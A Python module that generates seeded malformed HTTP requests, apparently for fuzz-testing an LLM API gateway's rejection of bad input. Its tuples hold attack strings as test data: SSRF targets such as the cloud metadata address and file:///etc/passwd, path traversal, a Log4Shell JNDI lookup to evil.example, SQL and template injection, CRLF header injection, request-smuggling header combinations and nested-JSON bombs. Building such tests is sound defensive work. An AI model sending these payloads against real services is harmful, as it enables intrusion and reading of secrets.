"""Requests that are wrong, made from a seed: what an attacker, a broken client or a confused proxy sends."""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from typing import Any

import msgspec

ROUTES = ("/v1/chat/completions", "/v1/messages", "/v1/completions")
NAMES = (  # of models and members, as if they led somewhere
    "http://169.254.169.254/latest/meta-data",
    "http://127.0.0.1:22",
    "//evil.example",
    "file:///etc/passwd",
    "../../../etc/passwd",
    "oss-20b@evil.example",
    "oss-20b/../admin",
    "router-1",
    "pool-1",
    "oss-20b\r\nX-Evil: 1",
    "oss-20b\0",
    "OSS-20B",
    " oss-20b",
    "oss-20b%00",
    "${jndi:ldap://evil.example}",
    "{{7*7}}",
    "'; DROP TABLE keys; --",
    "a" * 256,
    "\u202eb02-sso",
)
DEEP = (b"[" * 60_000, b'{"a":' * 60_000, b'{"model":"oss-20b","messages":[{"role":"user","content":' + b"[" * 60_000)
NO_JSON = (
    b"",
    b"{",
    b"}",
    b"null",
    b"[]",
    b"7",
    b'"x"',
    b"\xff\xfe",
    b"\0",
    b'{"model"',
    b"{'model':1}",
    b"NaN",
    b'{"model":"a"}{}',
    *DEEP,
)
VALUES: tuple[Any, ...] = (None, True, -1, 0, 1.5, 2**63, 2**70, 1e308, "", "x", [], {}, [[]], [{}], {"a": 1}, [None], "\ud83d\ude00" * 50)
LINES = (  # heads that no server may take; each ends its connection
    b"Content-Length: 3\r\nContent-Length: 4",
    b"Content-Length: 5\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked\r\nContent-Length: 5",
    b"Transfer-Encoding: gzip, chunked",
    b"Transfer-Encoding: chunked, identity",
    b"Transfer-Encoding: xchunked",
    b"Transfer-Encoding : chunked",
    b"Transfer-Encoding:\r\n chunked",
    b"Transfer-Encoding: \x0bchunked",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
    b"Content-Length: -1",
    b"Content-Length: +5",
    b"Content-Length: 0x5",
    b"Content-Length: 5, 5",
    b"Content-Length: 99999999999999999999999",
    b"Content-Length: 99999999999",
    b"X: a\r\n folded",
    b"X: a\nY: b",
    b"X: a\rY: b",
    b"X: a\0b",
    b"X\0: a",
    b"X Y: a",
    b": a",
    b"no colon",
    b"X-Request-ID: a\rSet-Cookie: b",
    b"X-Request-ID: a\nSet-Cookie: b",
    b"X-Request-ID: a\r\nX-Request-ID: b",
    b"Host: second",
    b"Content-Type: a\r\nContent-Type: b",
    b"X-API-Key: a\r\nX-API-Key: b",
    b"X: " + b"a" * 40_000,
    b"\r\n".join([b"X-%d: a" % number for number in range(4_000)]),
)
STARTS = (  # not one of them is HTTP/1.1
    b"GET /health\r\n\r\n",
    b"GET /health HTTP/2.0\r\nHost: h\r\n\r\n",
    b"GET /health HTTP/0.9\r\n\r\n",
    b"GET  HTTP/1.1\r\nHost: h\r\n\r\n",
    b"FOO / HTTP/1.1\r\nHost: h\r\n\r\n",
    b"get /health HTTP/1.1\r\nHost: h\r\n\r\n",
    b"GET /a b HTTP/1.1\r\nHost: h\r\n\r\n",
    b"GET /\xff HTTP/1.1\r\nHost: h\r\n\r\n",
    b"GET /\0 HTTP/1.1\r\nHost: h\r\n\r\n",
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    b"\x16\x03\x01\x02\x00\x01\x00\x01",
    b"\0\1\2\3\r\n\r\n",
    b"GET /health HTTP/1.1\nHost: h\n\n",
    b"GET /health HTTP/1.1\r\n\r\n",
    b"GET /" + b"a" * 40_000 + b" HTTP/1.1\r\nHost: h\r\n\r\n",
    b"CONNECT evil.example:22 HTTP/1.1\r\nHost: h\r\nContent-Length: 1\r\n\r\nx",
)
CHUNKS = (
    b"zz\r\nabc",
    b"-1\r\nabc",
    b"ffffffffffffffffff\r\n",
    b"1\na\n0\n\n",
    b"1\r\nabc\r\n0\r\n\r\n",
    b"1;\0\r\na\r\n0\r\n\r\n",
    b" 1\r\na\r\n0\r\n\r\n",
)


@dataclass(frozen=True, slots=True, kw_only=True)
class Bad:
    """One request; `last`: the connection ends with it."""

    text: bytes = field(repr=False)
    kind: str
    last: bool = False


class Wrong:
    """Bad requests without end. The key is a good one: what is refused is refused for what it is."""

    def __init__(self, seed: int, key: str) -> None:
        self._random = random.Random(seed)
        self._key = key.encode()

    def request(self) -> Bad:
        """One after which the connection goes on."""
        kind = self._random.choice(("body", "json", "model", "key", "route", "method"))
        route = self._random.choice(ROUTES)
        match kind:
            case "json":
                return Bad(text=self._post(route, self._random.choice(NO_JSON)), kind=kind)
            case "model":
                return Bad(
                    text=self._post(route, msgspec.json.encode(self._body(route) | {"model": self._random.choice(NAMES)})), kind=kind
                )
            case "body":
                return Bad(text=self._post(route, self._misfit(route)), kind=kind)
            case "key":
                return Bad(
                    text=self._post(
                        route, b"{}", self._random.choice((b"", b"Bearer", b"Basic eDp5", b"Bearer \xc3\xa9", b"Bearer " + b"k" * 9_000))
                    ),
                    kind=kind,
                )
            case "method":
                method = self._random.choice(("PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "GET"))
                return Bad(text=self._head(method, route), kind=kind)
        path = self._random.choice(
            (
                "/",
                "/v1",
                "/v1/chat/completions/",
                "/v1/models/none",
                "//v1/models",
                "/.env",
                "/v1/../admin",
                "http://evil.example/v1/models",
                "*",
            )
        )
        return Bad(text=self._head("GET", path), kind=kind)

    def ending(self) -> Bad:
        """One that ends its connection."""
        kind = self._random.choice(("line", "start", "chunk", "large"))
        if kind == "start":
            return Bad(text=self._random.choice(STARTS), kind=kind, last=True)
        lines = {"line": self._random.choice(LINES), "chunk": b"Transfer-Encoding: chunked", "large": b"Content-Length: 5000000"}[kind]
        body = {"line": b"0\r\n\r\n", "chunk": self._random.choice(CHUNKS), "large": b"x" * self._random.choice((0, 10, 30_000))}[kind]
        head = b"POST %b HTTP/1.1\r\nHost: h\r\nAuthorization: Bearer %b\r\n" % (self._random.choice(ROUTES).encode(), self._key)
        return Bad(text=head + lines + b"\r\n\r\n" + body, kind=kind, last=True)

    def _body(self, route: str) -> dict[str, Any]:
        if route == "/v1/completions":
            return {"model": "oss-20b", "prompt": "Hi"}
        return {"model": "oss-20b", "max_tokens": 9, "messages": [{"role": "user", "content": "Hi"}]}

    def _misfit(self, route: str) -> bytes:
        """A good body with a field that is missing, or of another kind."""
        body = self._body(route)
        name = self._random.choice([field for field in body if field != "max_tokens"])
        if self._random.random() < 0.3:
            del body[name]
        else:
            body[name] = self._random.choice([value for value in VALUES if not isinstance(value, str) or not value])
            body |= {"stream": self._random.random() < 0.5}
        return msgspec.json.encode(body)

    def _post(self, route: str, body: bytes, authorization: bytes | None = None) -> bytes:
        given = b"Bearer " + self._key if authorization is None else authorization
        head = b"POST %b HTTP/1.1\r\nHost: h\r\nAuthorization: %b\r\nContent-Length: %d\r\n\r\n" % (route.encode(), given, len(body))
        return head + body

    def _head(self, method: str, path: str) -> bytes:
        return f"{method} {path} HTTP/1.1\r\nHost: h\r\nAuthorization: Bearer {self._key.decode()}\r\n\r\n".encode()
